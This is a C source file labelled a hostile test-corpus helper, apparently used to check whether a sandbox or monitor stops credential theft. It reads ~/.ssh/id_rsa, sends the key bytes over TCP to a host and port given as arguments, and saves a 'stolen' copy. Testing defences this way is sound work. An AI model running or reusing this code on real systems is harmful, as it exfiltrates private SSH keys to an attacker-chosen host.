/* HOSTILE test-corpus helper (harmless: fake $HOME, loopback sink).
 * usage: helper HOME HOST PORT
 * Reads HOME/.ssh/id_rsa with open(2), sends "native_helper:native:" + its first bytes to
 * HOST:PORT over TCP, writes a copy to HOME/stolen-native_helper. Prints
 * "attempt <what>: <result>" lines to stderr; always exits 0. */
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <unistd.h>

static void report(const char *what, const char *arg, int ok, long n, int err) {
    if (ok) fprintf(stderr, "attempt %s %s: ok %ld bytes\n", what, arg, n);
    else fprintf(stderr, "attempt %s %s: error errno=%d %s\n", what, arg, err, strerror(err));
}

int main(int argc, char **argv) {
    char path[4096], out[4096], buf[4096 + 64];
    const char prefix[] = "native_helper:native:";
    long n = -1;
    if (argc != 4) { fprintf(stderr, "usage: helper HOME HOST PORT\n"); return 0; }
    snprintf(path, sizeof path, "%s/.ssh/id_rsa", argv[1]);
    memcpy(buf, prefix, sizeof prefix - 1);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        n = read(fd, buf + sizeof prefix - 1, 4096);
        int e = errno;
        close(fd);
        report("native open+read", path, n >= 0, n, e);
    } else {
        report("native open", path, 0, 0, errno);
    }
    if (n <= 0) return 0;

    struct addrinfo hints, *ai = NULL;
    memset(&hints, 0, sizeof hints);
    hints.ai_socktype = SOCK_STREAM;
    hints.ai_flags = AI_NUMERICHOST | AI_NUMERICSERV;
    char dest[512];
    snprintf(dest, sizeof dest, "%s:%s", argv[2], argv[3]);
    int rc = getaddrinfo(argv[2], argv[3], &hints, &ai);
    if (rc != 0) {
        fprintf(stderr, "attempt native resolve %s: error %s\n", dest, gai_strerror(rc));
    } else {
        int s = socket(ai->ai_family, SOCK_STREAM, 0);
        if (s < 0) {
            report("native socket", dest, 0, 0, errno);
        } else if (connect(s, ai->ai_addr, ai->ai_addrlen) != 0) {
            report("native connect", dest, 0, 0, errno);
            close(s);
        } else {
            long total = (long)(sizeof prefix - 1) + n;
            long sent = send(s, buf, total, 0);
            report("native connect+send", dest, sent == total, sent, errno);
            close(s);
        }
        freeaddrinfo(ai);
    }

    snprintf(out, sizeof out, "%s/stolen-native_helper", argv[1]);
    int ofd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (ofd < 0) {
        report("native write", out, 0, 0, errno);
    } else {
        long w = write(ofd, buf + sizeof prefix - 1, n);
        report("native write", out, w == n, w, errno);
        close(ofd);
    }
    return 0;
}
